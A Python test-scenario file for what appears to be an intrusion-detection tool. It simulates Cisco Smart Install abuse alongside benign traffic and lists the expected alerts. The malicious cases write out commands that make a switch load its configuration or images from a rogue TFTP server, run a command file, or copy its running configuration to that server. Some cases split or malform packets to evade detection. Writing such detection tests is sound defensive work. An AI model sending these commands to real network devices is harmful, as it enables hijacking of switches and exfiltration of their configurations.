"""BW06: a Smart Install message commands a switch."""

from __future__ import annotations

from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
from bootwarden.scenarios.sites import HQ
from bootwarden.traffic import smart_install as smi
from bootwarden.traffic.images import filler
from bootwarden.traffic.wire import Tcp, Wire

SWITCH, ATTACKER, ADMIN, ROGUE, SERVER = "10.0.1.7", "10.0.6.66", "10.0.9.10", "10.0.6.66", "10.0.0.5"


def command(server: str | None = ROGUE, file: str | None = None, device: str = SWITCH) -> Notice:
    """The notice of one command."""
    return Notice("Smart_Install_Command", device, server, file)


def both(*notices: Notice, orders: tuple[tuple[int, str], ...]) -> dict[str, object]:
    """The same with and without a site: nothing need be declared for this detection.

    ``orders`` are what Suricata alerts on: the number of the rule in its block, and the switch.
    """
    plain = tuple(Alert(1542005060 + number, ATTACKER, switch) for number, switch in orders)
    site = tuple(Alert(1542106000 + number, ATTACKER, switch) for number, switch in orders)
    return {"plain": Expect(notices, plain), "site": HQ, "with_site": Expect(notices, site)}


@scenario("BW06", "malicious", **both(command(file="my.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_change_config(wire: Wire) -> None:
    """A switch is told to replace its startup configuration and to reload in a minute."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.config(f"tftp://{ROGUE}/my.conf"))
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="tar_imglist0.txt"), orders=((0, SWITCH),)))  # type: ignore[arg-type]
def bw06_upgrade_image(wire: Wire) -> None:
    """A switch is told to fetch a list of images and to install them."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.image(f"tftp://{ROGUE}/tar_imglist0.txt"))
    tcp.close()


@scenario(
    "BW06",
    "malicious",
    **both(
        command(file="execute.txt"),
        command(file="10.0.1.8.conf", device="10.0.1.8"),
        orders=((2, SWITCH), (3, "10.0.1.8")),
    ),  # type: ignore[arg-type]
)
def bw06_execute_and_copy(wire: Wire) -> None:
    """One switch runs a file of commands, another sends its configuration away."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.execute(f"tftp://{ROGUE}/execute.txt"))
    tcp.close()
    tcp = Tcp(wire, ATTACKER, 50787, "10.0.1.8", smi.PORT)
    tcp.send(
        smi.copy(
            "copy system:running-config flash:/config.text",
            f"copy flash:/config.text tftp://{ROGUE}/10.0.1.8.conf",
        )
    )
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_split_behind_probe(wire: Wire) -> None:
    """The command follows a probe in one stream, cut into segments of seven bytes that split every field."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    tcp.send(smi.probe() + smi.config(f"tftp://{ROGUE}/evil.conf"), mss=7)
    tcp.reply(smi.probe_reply())
    tcp.close()


@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
def bw06_wrong_length(wire: Wire) -> None:
    """The header promises far more bytes than come, and the URL stands in upper case at another offset."""
    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
    body = bytes(48) + f"TFTP://{ROGUE}/evil.conf".encode() + bytes(20)
    tcp.send(smi.message(smi.CONFIG, body, length=0x4000))
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_director_keepalive(wire: Wire) -> None:
    """A client joins its director and answers probes; no command is given."""
    tcp = Tcp(wire, "10.0.0.20", 51786, SWITCH, smi.PORT)
    for _ in range(3):
        tcp.send(smi.probe())
        tcp.reply(smi.probe_reply())
        wire.wait(30)
        tcp.send(smi.message(smi.PROBE, (2).to_bytes(4, "big")))
        tcp.reply(smi.keepalive_reply())
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_ephemeral_port(wire: Wire) -> None:
    """4786 is only a client's port; what the server sends it even looks like a command."""
    tcp = Tcp(wire, "10.0.2.40", smi.PORT, "93.184.216.34", 3777)
    tcp.send(b"hello" + filler(400, "app"))
    tcp.reply(smi.config("tftp://93.184.216.34/my.conf"))
    tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_scanned_with_rubbish(wire: Wire) -> None:
    """A scanner speaks HTTP and TLS to the port, and the word tftp:// appears in it."""
    for i, data in enumerate((b"GET /tftp://x HTTP/1.0\r\n\r\n", b"\x16\x03\x01\x02\x00" + filler(512, "tls"))):
        tcp = Tcp(wire, "10.0.2.30", 50786 + i, SWITCH, smi.PORT)
        tcp.send(data)
        tcp.close()


@scenario(
    "BW06",
    "benign",
    plain=Expect(
        (Notice("Smart_Install_Command", SWITCH, SERVER, "access.conf"),),
        alerts=(Alert(1542005061, "10.0.9.10", "10.0.1.7"),),
    ),
    site=HQ,
    with_site=Expect(evidence=({"device": SWITCH, "server": SERVER, "verdict": "expected"},)),
)
def bw06_declared_director(wire: Wire) -> None:
    """A director among the admin hosts gives a new switch its configuration from the declared server."""
    tcp = Tcp(wire, ADMIN, 51786, SWITCH, smi.PORT)
    tcp.send(smi.config(f"tftp://{SERVER}/access.conf"))
    tcp.close()
